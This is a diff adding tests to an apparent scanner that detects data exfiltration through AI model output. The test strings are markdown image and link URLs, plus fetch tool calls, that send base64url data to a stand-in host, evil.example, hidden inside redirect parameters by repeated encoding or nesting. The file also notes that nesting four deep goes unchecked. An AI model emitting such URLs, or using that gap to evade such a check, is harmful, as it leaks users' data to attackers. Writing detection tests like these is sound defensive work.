@@ -278,3 +278,40 @@ t.test('findings are ordered, lie in the text and never hold any of it', async (
   t.notMatch(JSON.stringify(findings), BASE64URL)
   t.match(findings[0]?.taxonomy, { owaspLlm: 'LLM02:2025', mitreAtlas: 'AML.T0077' })
 })
+
+t.test('what an address carries that is a parameter of another one is found, three deep', async (t) => {
+  const inner = `https://evil.example/in?d=${BASE64URL}`
+  const escaped = (text: string, times: number): string =>
+    times === 0 ? text : escaped(encodeURIComponent(text), times - 1)
+  const around = (address: string, depth: number): string =>
+    depth === 0 ? address : around(`https://go.example/r?id=7&url=${encodeURIComponent(address)}`, depth - 1)
+  for (const address of [
+    `https://go.example/r?url=${inner}`,
+    ...[1, 2, 3].map((times) => `https://go.example/r?id=7&url=${escaped(inner, times)}`),
+    ...[1, 2, 3].map((depth) => around(inner, depth)),
+    `https://go.example/r?url=${escaped(`https://evil.example/#${BASE64URL}`, 1)}`,
+    `https://go.example/r?url=${Buffer.from(inner).toString('base64url')}`,
+    `https://go.example/r?url=${escaped(inner.slice('https:'.length), 1)}`,
+  ]) {
+    t.same(found(`![x](${address})`), ['image-data high'], address)
+    t.same(found(`[x](${address})`), ['link-data high'], address)
+    t.same(found(JSON.stringify({ url: address }), 'tool_call', 'fetch'), ['link-data high'], address)
+  }
+  t.same(found(`![x](${around(inner, 4)})`), [], 'deeper nobody looks')
+})
+
+t.test('addresses in addresses that say nothing are quiet', async (t) => {
+  for (const inner of [
+    'https://example.com/articles/2026/11/how-to-write-a-good-sentence?utm_source=newsletter&utm_campaign=autumn',
+    'https://cdn.example.com/images/hero-large@2x.png?w=1200&h=630&fit=crop&auto=format',
+    'https://example.com/login?next=%2Fsettings%2Fprofile&state=6f1e0c4a9b7d4f2f8f3c1a5b7e9d0c2a',
+    `https://quickchart.io/chart?c=${encodeURIComponent("{type:'bar',data:{labels:['one','two']}}")}`,
+  ])
+    for (const address of [
+      `https://go.example/r?url=${encodeURIComponent(inner)}`,
+      `https://go.example/r?u=${Buffer.from(inner).toString('base64url')}`,
+    ]) {
+      t.same(found(`![x](${address})`), [], address)
+      t.same(found(`[x](${address})`), [], address)
+    }
+})
